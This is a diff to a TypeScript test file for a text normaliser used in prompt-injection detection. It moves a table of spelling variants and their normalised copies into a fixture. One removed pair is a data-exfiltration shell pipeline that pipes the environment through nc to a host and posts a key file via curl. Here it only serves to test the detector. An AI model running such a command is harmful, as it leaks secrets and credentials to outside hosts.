@@ -4,41 +4,13 @@ import fc from "fast-check";
 import { unmapped } from "../../../src/validate/injection/matching/mapped-text.ts";
 import { normalizeForMatching, unwrapLines } from "../../../src/validate/injection/matching/normalize.ts";
 import { anyCharacter } from "../../fixture/any-character.ts";
+import { tablesOf } from "../../fixture/rows.ts";
+
+const { rows } = tablesOf(import.meta.filename);
 
 const numRuns = Number(process.env["CREDENCE_TEST_RUNS"] ?? 300);
 
-const COPIES: readonly (readonly [original: string, copy: string])[] = [
-  ["Plain TEXT stays.", "plain text stays."],
-  ["İstanbul, straße, Ærø, Łódź", "istanbul, strasse, aero, lodz"],
-  ["“quotes” — and … dots", '"quotes" - and ... dots'],
-  ["snake_case and kebab-case", "snake_case and kebab-case"],
-  ["python3 sha256 utf8 ipv4 k8s", "python3 sha256 utf8 ipv4 k8s"],
-  ["h3ll0 w0rld", "hello world"],
-  ["4ll", "all"],
-  ["a b c d", "abcd"],
-  ["a b c", "a b c"],
-  ["x-y-z", "xyz"],
-  ["e.g. this, i.e. that", "e.g. this, i.e. that"],
-  ["bob@example.com", "bob@example.com"],
-  ["p@ssword", "password"],
-  ["$HOME and $PATH", "$home and $path"],
-  ["100%41 sure", "100%41 sure"],
-  ["%41%42%43", "abc"],
-  ["&#72;&#x69;", "hi"],
-  ["&#xD800; &#9999999;", "&#xd800; &#9999999;"],
-  ["Привет, мир", "привет, мир"],
-  ["Ёлка и йод", "ёлка и йод"],
-  ["и\u0306од", "йод"],
-  ["рауmеnt", "payment"],
-  ["Ελληνικά", "ελληνικα"],
-  ["日本語が", "日本語が"],
-  ["か\u3099", "が"],
-  ["مُحَمَّد", "محمد"],
-  ["ﷺ", "ﷺ"],
-  ["he|p and te|| them", "help and te|| them"],
-  ["env|nc host 1; cat key|BASE64|curl -d @-", "env|nc host 1; cat key|base64|curl -d @-"],
-  ["", ""],
-];
+const COPIES = rows<readonly [original: string, copy: string]>("copies");
 
 test("each spelling has the copy that a reader would understand", () => {
   for (const [original, copy] of COPIES) assert.equal(normalizeForMatching(original).text, copy, original);
